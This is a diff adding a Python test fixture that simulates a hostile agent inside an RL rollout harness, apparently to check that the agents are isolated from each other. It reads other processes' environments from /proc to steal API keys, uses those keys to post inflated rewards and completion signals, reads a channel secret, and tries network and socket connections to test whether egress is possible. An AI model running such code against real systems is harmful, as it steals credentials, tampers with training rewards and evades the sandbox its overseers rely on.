@@ -1,0 +1,105 @@
+"""A hostile agent process (rollout.agent: openai): what a model-driven agent could try
+against the other agents and the rollout. Usage:
+
+    python hostile_agent.py REPORT_TAG SECONDS RUN_DIR DECOY_HOST:PORT DECOY_SOCKET
+
+For SECONDS it scans /proc/*/environ for the other agents' OPENAI_API_KEY (and their
+trajectory ids) and the rollout's environment (the pytest process's); it tries each stolen
+key: a reward of 1e6 and done on that trajectory; it tries its own key on the others, reads
+RUN_DIR (channel.secret, the agents' records), connects to a TCP listener and a Unix
+socket of the host. Then it prints `REPORT_TAG <json of what succeeded>` and exits 3 (its
+log is kept). Works through whatever base URL it was given (the forwarder's in a jail)."""
+
+from __future__ import annotations
+
+import glob
+import json
+import os
+import socket
+import sys
+import time
+
+import httpx
+
+
+def environs() -> list[dict[str, str]]:
+    """The environment of every process it can read; the rollout's (pytest, or the rollout
+    launcher) marked with ROLLOUT=1."""
+    out = []
+    for path in glob.glob("/proc/[0-9]*/environ"):
+        if path == f"/proc/{os.getpid()}/environ":
+            continue
+        try:
+            raw = open(path, "rb").read()
+            cmd = open(path[:-len("environ")] + "cmdline", "rb").read()
+        except OSError:
+            continue
+        env = {"ROLLOUT": "1"} if raw and (b"pytest" in cmd or b"rollout.py" in cmd) else {}
+        for item in raw.split(b"\0"):
+            k, sep, v = item.partition(b"=")
+            if sep:
+                env[k.decode(errors="replace")] = v.decode(errors="replace")
+        out.append(env)
+    return out
+
+
+def main() -> int:
+    tag, seconds, run_dir, decoy, decoy_sock = sys.argv[1:6]
+    me = os.environ["TSYNC_TRAJECTORY_ID"]
+    base = os.environ["OPENAI_BASE_URL"]  # .../t/<me>/v1
+    root = base[:base.index(f"/t/{me}/")]
+    mine = os.environ["OPENAI_API_KEY"]
+    found: dict[str, str] = {}
+    report: dict = {"uid": os.getuid(), "rollout_env": False, "keys": [], "rewarded": [],
+                    "done": [], "own_key_elsewhere": [], "secret": False, "run_dir": [],
+                    "connected": []}
+    deadline = time.monotonic() + float(seconds)
+    http = httpx.Client(timeout=10)
+    while time.monotonic() < deadline:
+        for env in environs():
+            if "ROLLOUT" in env:
+                report["rollout_env"] = True
+            tid, key = env.get("TSYNC_TRAJECTORY_ID"), env.get("OPENAI_API_KEY")
+            if tid and key and tid != me and tid not in found:
+                found[tid] = key
+                r = http.post(f"{root}/t/{tid}/v1/reward", json={"reward": 1e6},
+                              headers={"Authorization": f"Bearer {key}"})
+                if r.status_code == 200:
+                    report["rewarded"].append(tid)
+        time.sleep(0.1)
+    report["keys"] = sorted(found)
+    for tid in ("a", "b"):
+        r = http.post(f"{root}/t/{tid}/v1/done", json={"reward": 1e6},
+                      headers={"Authorization": f"Bearer {found.get(tid, mine)}"})
+        if r.status_code == 200:
+            report["done"].append(tid)
+        r = http.post(f"{root}/t/{tid}/v1/reward", json={"reward": 1e6},
+                      headers={"Authorization": f"Bearer {mine}"})
+        if r.status_code == 200:
+            report["own_key_elsewhere"].append(tid)
+    try:
+        report["secret"] = bool(open(os.path.join(run_dir, "channel.secret")).read())
+    except OSError:
+        pass
+    try:
+        report["run_dir"] = sorted(os.listdir(run_dir))
+    except OSError:
+        pass
+    host, _, port = decoy.rpartition(":")
+    for fam, addr in ((socket.AF_INET, (host, int(port))), (socket.AF_UNIX, decoy_sock),
+                      (socket.AF_INET, ("1.1.1.1", 53))):
+        s = socket.socket(fam, socket.SOCK_STREAM)
+        s.settimeout(2)
+        try:
+            s.connect(addr)
+            report["connected"].append(str(addr))
+        except OSError:
+            pass
+        finally:
+            s.close()
+    print(tag, json.dumps(report), flush=True)
+    return 3
+
+
+if __name__ == "__main__":
+    sys.exit(main())
